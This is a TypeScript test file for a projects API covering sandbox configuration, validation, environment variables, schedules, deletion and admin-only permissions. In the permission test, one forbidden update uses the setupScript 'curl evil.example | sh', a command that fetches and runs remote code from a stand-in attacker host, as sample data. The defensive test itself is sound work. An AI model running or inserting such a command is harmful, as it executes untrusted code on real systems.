import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { createSecret } from "../../../core/access/index.ts";
import { newId } from "../../../core/base/index.ts";
import { caller } from "../../../testing/caller.ts";
import { addPerson } from "../../../testing/person.ts";
import { type Served, serve } from "../../../testing/test-server.ts";

let served: Served;
let call: ReturnType<typeof caller>;
let key: string;
before(async () => {
  served = await serve();
  key = await served.addKey(served.testStore.organizationId);
  call = caller(served, key);
});
after(() => served.close());

const create = async (change: object = {}) =>
  (await call(201, "POST", "/v1/projects", { name: newId(), sizes: ["micro"], ...change })).project;

test("creates a project with every field, and returns it in the list", async () => {
  const repository = await served.testStore.addRepository();
  await createSecret(served.ports, served.testStore.organizationId, {
    key: "REGISTRY",
    value: "ada:sesame-1",
  });
  const body = {
    name: "Everything",
    description: "All of it.",
    icon: "database",
    color: "teal",
    sizes: ["micro", "large", "micro"],
    codeRepositoryIds: [repository.id.toUpperCase(), repository.id],
    setupScript: "make",
    agentInstructions: "Run make test.",
    includeDeps: false,
    includeSkills: false,
    source: { kind: "machine" },
    startScript: "make start",
    services: [{ name: "db", command: "postgres", ready: { tcp: 5432 }, user: "user" }],
    user: "user",
    containers: false,
    baseBranches: { [repository.id]: "develop" },
    refresh: true,
    isDefaultForRepositories: true,
    runsOn: ["gpu", "arch=arm64"],
    runNow: true,
    schedule: { cron: "0 3 * * *", timezone: "Europe/Berlin" },
  };
  const { project, jobIds } = await call(201, "POST", "/v1/projects", body);
  const { runNow: _, schedule: __, ...fields } = body;
  const { id, createdAt, updatedAt, ...shown } = project;
  assert.deepEqual(shown, {
    ...fields,
    sizes: ["micro", "large"],
    runsOn: ["arch=arm64", "gpu"],
    codeRepositoryIds: [repository.id],
    defaultForSizes: [],
    warmPoolEnabled: false,
    activeSnapshots: [],
    lastBuild: { id: jobIds[0], status: "pending", createdAt },
  });
  assert.equal(createdAt, updatedAt);
  const build = await call(200, "GET", `/v1/projects/${id}/builds/${jobIds[0]}`);
  assert.deepEqual(
    [build.status, build.trigger, build.sandboxSize, build.setupScript, build.logs],
    ["pending", "manual", "large", "make", ""],
  );
  const schedules = await call(200, "GET", `/v1/projects/${id}/schedules`);
  assert.deepEqual(
    [schedules.items.length, schedules.items[0].timezone, schedules.items[0].nextRunAt],
    [1, "Europe/Berlin", "2026-01-03T02:00:00.000Z"],
  );
  const list = await call(200, "GET", "/v1/projects?search=everything");
  assert.deepEqual([list.items, list.hasBuiltSnapshot], [[project], false]);
});

test("creates a project with defaults and without a build", async () => {
  const { project, jobIds } = await call(201, "POST", "/v1/projects", { name: "Plain", sizes: ["micro"] });
  assert.deepEqual(jobIds, []);
  assert.deepEqual(
    [project.icon, project.color, project.source, project.includeDeps, project.codeRepositoryIds],
    ["folder", "neutral", { kind: "machine" }, true, null],
  );
});

const refused: readonly [string, object, RegExp, string][] = [
  ["no sizes", { sizes: [] }, /sizes/, "sizes"],
  ["a size that Tembo does not have", { sizes: ["ultra"] }, /sizes/, "sizes.0"],
  ["an unknown icon", { icon: "cat" }, /icon/, "icon"],
  ["an unknown color", { color: "mauve" }, /color/, "color"],
  ["a long name", { name: "x".repeat(121) }, /longer than 120/, "name"],
  ["a blank name", { name: " " }, /"name" is empty/, "name"],
  ["a long script", { setupScript: "x".repeat(20_001) }, /longer than 20000/, "setupScript"],
  ["a repository that is no ID", { codeRepositoryIds: ["x"] }, /not the ID of a repo/, "codeRepositoryIds"],
  ["an unknown repository", { codeRepositoryIds: [newId()] }, /not connected/, "codeRepositoryIds"],
  ["an invalid cron expression", { schedule: { cron: "x" } }, /not valid/, "schedule.cron"],
  [
    "a time zone in the cron expression",
    { schedule: { cron: "TZ=UTC 0 3 * * *" } },
    /as "timezone"/,
    "schedule.cron",
  ],
  [
    "an unknown time zone",
    { schedule: { cron: "@daily", timezone: "Mars/Base" } },
    /not a time zone/,
    "schedule.timezone",
  ],
  [
    "a time that never comes",
    { schedule: { cron: "0 0 31 2 *" } },
    /never matches a future time/,
    "schedule.cron",
  ],
  ["the user root without an image", { user: "root" }, /needs a system of its own/, "user"],
  [
    "a secret that does not exist",
    { source: { kind: "image", reference: "a", registrySecret: "NONE" } },
    /no secret with the key "NONE"/,
    "source.registrySecret",
  ],
  [
    "a Dockerfile of an unknown repository",
    { source: { kind: "dockerfile", repositoryId: newId(), path: "Dockerfile" } },
    /not connected/,
    "source.repositoryId",
  ],
  [
    "a service with a port out of range",
    { services: [aService({ ready: { tcp: 0 } })] },
    /services/,
    "services.0.ready.tcp",
  ],
  ["a service without a name", { services: [aService({ name: "" })] }, /services/, "services.0.name"],
  ["an unknown field", { machine: true }, /unknown field: machine/, "machine"],
];
for (const [what, change, message, field] of refused)
  test(`rejects ${what}, and creates nothing`, async () => {
    const { organizationId, store } = served.testStore;
    const before = await store.projects.count(organizationId);
    const body = { name: newId(), sizes: ["micro"], ...change };
    const answer = await call(400, "POST", "/v1/projects", body);
    assert.match(answer.error, message);
    assert.equal(answer.field, field);
    assert.equal(await store.projects.count(organizationId), before);
  });

function aService(change: object) {
  return { name: "db", command: "postgres", ready: null, ...change };
}

test("rejects a name that is taken", async () => {
  await create({ name: "Taken" });
  const other = await create();
  for (const answer of [
    await call(409, "POST", "/v1/projects", { name: "taken", sizes: ["micro"] }),
    await call(409, "PATCH", `/v1/projects/${other.id}`, { name: "TAKEN" }),
  ])
    assert.match(answer.error, /already exists. Choose another name/);
});

test("updates only the given fields, and the waiting build with them", async () => {
  const { id } = await create({ setupScript: "old", runNow: true });
  const changed = await call(200, "PATCH", `/v1/projects/${id}`, {
    setupScript: "new",
    warmPoolEnabled: true,
  });
  assert.deepEqual([changed.setupScript, changed.warmPoolEnabled, changed.icon], ["new", true, "folder"]);
  const { items } = await call(200, "GET", `/v1/projects/${id}/builds`);
  assert.equal(items[0].setupScript, "new");
  const cleared = await call(200, "PATCH", `/v1/projects/${id}`, { setupScript: null, description: null });
  assert.deepEqual([cleared.setupScript, cleared.warmPoolEnabled], [null, true]);
});

test("gives each size one default project, and removes the default with the size", async () => {
  const [first, second] = [await create({ sizes: ["large", "xl"] }), await create({ sizes: ["xl"] })];
  const path = (id: string) => `/v1/projects/${id}`;
  const defaultsOf = async (id: string) => (await call(200, "GET", path(id))).defaultForSizes;
  await call(200, "PATCH", path(first.id), { defaultForSizes: ["large", "xl"] });
  await call(200, "PATCH", path(second.id), { defaultForSizes: ["xl"] });
  assert.deepEqual([await defaultsOf(first.id), await defaultsOf(second.id)], [["large"], ["xl"]]);
  await call(200, "PATCH", path(first.id), { sizes: ["micro"] });
  assert.deepEqual(await defaultsOf(first.id), []);
  const lacking = await call(400, "PATCH", path(first.id), { defaultForSizes: ["xl"] });
  assert.deepEqual(
    [lacking.field, /cannot be the default for xl/.test(lacking.error)],
    ["defaultForSizes", true],
  );

  const set = { projectId: first.id, sandboxSize: "small" };
  assert.deepEqual(await call(200, "PUT", "/v1/projects/defaults", set), set);
  assert.deepEqual(await defaultsOf(first.id), ["small"]);
  await call(200, "PATCH", path(first.id), { defaultForSizes: ["small", "micro"] });
  assert.deepEqual(await defaultsOf(first.id), ["small", "micro"]);
  await call(200, "PATCH", path(first.id), { defaultForSizes: ["small"] });
  const listed = await call(200, "GET", "/v1/projects?defaultOnly=true");
  assert.deepEqual(
    new Set(listed.items.map((one: { id: string }) => one.id)),
    new Set([first.id, second.id]),
  );
  const none = { projectId: null, sandboxSize: "small" };
  assert.deepEqual(await call(200, "PUT", "/v1/projects/defaults", none), none);
  assert.deepEqual(await defaultsOf(first.id), []);
  const unfit = { projectId: second.id, sandboxSize: "micro" };
  assert.match(
    (await call(400, "PUT", "/v1/projects/defaults", unfit)).error,
    /does not have the size micro/,
  );
  for (const projectId of [newId(), "x"])
    assert.match(
      (await call(400, "PUT", "/v1/projects/defaults", { ...none, projectId })).error,
      /was not found. It may have been deleted/,
    );
});

test("stores variables without ever returning a value", async () => {
  const { id } = await create();
  const path = `/v1/projects/${id}/environment-variables`;
  const stored = await call(201, "POST", path, {
    secrets: [
      { key: "TOKEN", value: "sesame-1" },
      { key: "URL", value: "https://db.example", scope: "buildAndRun" },
    ],
  });
  const items = [
    { key: "TOKEN", scope: "build" },
    { key: "URL", scope: "buildAndRun" },
  ];
  assert.deepEqual(stored, { items });
  await call(201, "POST", path, { secrets: [{ key: "URL", value: "https://other.example" }] });
  assert.deepEqual(await call(200, "GET", path), { items }, "a new value keeps the scope");
  await call(200, "PATCH", `/v1/projects/${id}`, { environmentVariables: { THIRD: "sesame-3" } });
  assert.deepEqual(
    (await call(200, "GET", path)).items.map((one: { key: string }) => one.key),
    ["THIRD", "TOKEN", "URL"],
  );
  assert.deepEqual(await call(200, "DELETE", `${path}/TOKEN`), { key: "TOKEN", deleted: true });
  assert.match((await call(404, "DELETE", `${path}/TOKEN`)).error, /has no variable TOKEN/);
  assert.ok(!served.logged.join("").includes("sesame"));
});

test("rejects variables that are reserved, repeated, too short or too many, and stores none of them", async () => {
  const { id } = await create();
  const path = `/v1/projects/${id}/environment-variables`;
  const good = { key: "GOOD", value: "sesame-1" };
  for (const [bad, message] of [
    [{ key: "PATH", value: "sesame-1" }, /variable PATH was rejected.*reserved/],
    [{ key: "SHORT", value: "abc" }, /variable SHORT was rejected.*fewer than 6/],
    [{ key: "GOOD", value: "sesame-2" }, /GOOD occurs twice/],
  ] as const) {
    const answer = await call(400, "POST", path, { secrets: [good, bad] });
    assert.match(answer.error, message);
    assert.equal(answer.field, "secrets");
  }
  const named = await call(400, "PATCH", `/v1/projects/${id}`, {
    environmentVariables: { "A B": "sesame-1" },
  });
  assert.deepEqual(
    [named.field, /not a valid environment/.test(named.error)],
    ["environmentVariables", true],
  );
  for (const value of ["x".repeat(10_001), ""])
    await call(400, "PATCH", `/v1/projects/${id}`, { environmentVariables: { LONG: value } });
  assert.deepEqual(await call(200, "GET", path), { items: [] });
  const many = Array.from({ length: 100 }, (_, n) => ({ key: `V${n}`, value: "sesame-1" }));
  await call(201, "POST", path, { secrets: many });
  assert.match((await call(409, "POST", path, { secrets: [good] })).error, /at most 100/);
  await call(201, "POST", path, { secrets: [{ ...many[0]!, value: "sesame-2" }] });
});

test("adds, changes and disables schedules, up to ten", async () => {
  const { id } = await create();
  const path = `/v1/projects/${id}/schedules`;
  const first = await call(201, "POST", path, { cron: "0 3 * * *" });
  assert.deepEqual(await call(200, "GET", `${path}/${first.id}`), first);
  const moved = await call(200, "PATCH", `${path}/${first.id}`, { timezone: "Asia/Tokyo" });
  assert.deepEqual([moved.cron, moved.nextRunAt], ["0 3 * * *", "2026-01-02T18:00:00.000Z"]);
  assert.deepEqual(await call(200, "DELETE", `${path}/${first.id}`), { id: first.id, deleted: true });
  const disabled = await call(200, "GET", `${path}/${first.id}`);
  assert.deepEqual([disabled.enabledAt, disabled.nextRunAt], [null, null]);
  // The change of the project applies to its oldest schedule.
  await call(200, "PATCH", `/v1/projects/${id}`, { schedule: { enabled: true, timezone: null } });
  const enabled = await call(200, "GET", `${path}/${first.id}`);
  assert.deepEqual([enabled.timezone, enabled.nextRunAt], [null, "2026-01-03T03:00:00.000Z"]);
  assert.notEqual(enabled.enabledAt, null);
  for (let n = 1; n < 10; n++) await call(201, "POST", path, { cron: "@daily" });
  assert.match((await call(409, "POST", path, { cron: "@daily" })).error, /at most 10 schedules/);
  assert.match((await call(404, "GET", `${path}/${newId()}`)).error, /has no schedule/);
});

test("creates a schedule with an update only if it has a cron expression", async () => {
  const { id } = await create();
  const refusal = await call(400, "PATCH", `/v1/projects/${id}`, { schedule: { enabled: true } });
  assert.deepEqual([refusal.field, /Add "cron"/.test(refusal.error)], ["schedule.cron", true]);
  await call(200, "PATCH", `/v1/projects/${id}`, { schedule: { cron: "@daily", enabled: false } });
  const { items } = await call(200, "GET", `/v1/projects/${id}/schedules`);
  assert.deepEqual([items.length, items[0].enabledAt], [1, null]);
});

test("deletes a project with its builds, schedules and variables, and frees its name", async () => {
  const { id, name } = await create({ runNow: true, schedule: { cron: "@daily" } });
  await call(200, "PATCH", `/v1/projects/${id}`, { environmentVariables: { TOKEN: "sesame-1" } });
  assert.deepEqual(await call(200, "DELETE", `/v1/projects/${id}`), { id, deleted: true });
  for (const [method, path] of [
    ["GET", ""],
    ["DELETE", ""],
    ["GET", "/builds"],
    ["GET", "/schedules"],
    ["GET", "/snapshots"],
    ["GET", "/environment-variables"],
  ] as const)
    assert.match((await call(404, method, `/v1/projects/${id}${path}`)).error, /was not found/);
  const { store, organizationId } = served.testStore;
  assert.deepEqual(await store.projectVariables.list(id), []);
  assert.deepEqual(
    (await store.secrets.credentialNames(organizationId, "projectVariable")).filter((one) =>
      one.startsWith(id),
    ),
    [],
  );
  assert.equal((await store.projectSchedules.oldest(id))?.enabledAt, null);
  assert.equal((await store.projectBuilds.list(id, { limit: 1 })).items[0]?.state.status, "cancelled");
  await create({ name });
});

test("lets members read projects and request builds, and only admins change them", async () => {
  const member = await addPerson(served.testStore, {
    organizationId: served.testStore.organizationId,
    role: "member",
  });
  const asMember = caller(served, member.token);
  const { id } = await create();
  for (const path of ["", `/${id}`, `/${id}/builds`, `/${id}/schedules`, `/${id}/environment-variables`])
    await asMember(200, "GET", `/v1/projects${path}`);
  const { jobIds } = await asMember(201, "POST", `/v1/projects/${id}/builds`, {});
  await asMember(200, "POST", `/v1/projects/${id}/builds/${jobIds[0]}/cancel`);
  for (const [method, path, body] of [
    ["POST", "", { name: "Mine", sizes: ["micro"] }],
    ["PATCH", `/${id}`, { setupScript: "curl evil.example | sh" }],
    ["DELETE", `/${id}`, undefined],
    ["PUT", "/defaults", { projectId: id, sandboxSize: "micro" }],
    ["POST", `/${id}/environment-variables`, { secrets: [{ key: "A", value: "sesame-1" }] }],
    ["DELETE", `/${id}/environment-variables/A`, undefined],
    ["POST", `/${id}/schedules`, { cron: "@daily" }],
  ] as const) {
    const { error, code } = await asMember(403, method, `/v1/projects${path}`, body);
    assert.match(error, /admin/i);
    assert.equal(code, "forbidden");
  }
});
